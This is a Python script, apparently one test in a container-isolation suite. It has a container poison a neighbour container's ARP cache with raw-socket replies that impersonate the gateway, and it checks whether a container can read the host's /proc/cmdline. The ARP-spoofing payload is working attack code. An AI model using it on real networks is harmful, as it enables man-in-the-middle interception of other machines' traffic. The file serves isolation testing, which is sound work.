#!/usr/bin/python3
"""Break-out 09: be the gateway to a neighbour, and read how the machine was started."""

import contextlib
import os
import subprocess
import sys

sys.path.insert(0, os.path.join(sys.path[0], ".."))
from attack import Attack

NETWORK = os.path.join(sys.path[0], "network.sh")
# arp(7): whoever answers last is believed. packet(7) puts any bytes on the wire.
SPOOF = """
import socket, struct, sys, time
gateway, neighbour = map(socket.inet_aton, sys.argv[1:])
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().replace(":", ""))
answer = b"\\xff" * 6 + own + struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, 2)
answer += own + gateway + b"\\xff" * 6 + neighbour
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
for _ in range(25):
    wire.send(answer)
    time.sleep(0.1)
print("sent as", ":".join(f"{byte:02x}" for byte in own))
"""


@contextlib.contextmanager
def bridge():
    """Switches the host's side of the network on for a while, unless it is on already."""
    was_on = subprocess.run([NETWORK, "status"], capture_output=True).returncode == 0
    done = subprocess.run([NETWORK, "on"], capture_output=True, text=True)
    if done.returncode != 0:
        print(done.stderr.strip(), file=sys.stderr)
        sys.exit(2)
    try:
        yield
    finally:
        if not was_on:
            subprocess.run([NETWORK, "off"], check=True, capture_output=True)


@contextlib.contextmanager
def neighbour(runtime):
    """Starts another container on the bridge. Yields a function that runs a line in its
    shell, and returns the one line that this prints."""
    words = [runtime, "run", "--net", "bridge", "debian", "bash"]
    with subprocess.Popen(words, stdin=-1, stdout=-1, text=True) as process:

        def ask(line):
            process.stdin.write(f"echo $({line})\n")
            process.stdin.flush()
            return process.stdout.readline().strip()

        yield ask
        process.stdin.close()


attack = Attack()

with bridge(), neighbour(attack.runtime) as ask:
    address = ask("hostname -I")
    gateway = ask("ip route show default | cut -d' ' -f3")
    ask(f"echo hello >/dev/udp/{gateway}/9")  # asks for the gateway's hardware address
    words = ["run", "--net", "bridge", "app", "python3", "-c", SPOOF, gateway, address]
    process = subprocess.run(
        [attack.runtime, *words], capture_output=True, text=True, timeout=60
    )
    after = ask(f"ip neighbour show {gateway}")
    worked = process.returncode == 0 and process.stdout.split()[-1] in after
attack.report(f"be {gateway}, the gateway, to {address}", worked, process)

process = attack.inside("cat", "/proc/cmdline")
with open("/proc/cmdline") as file:
    worked = process.stdout == file.read()
attack.report("read how the machine was started", worked, process)

attack.end()
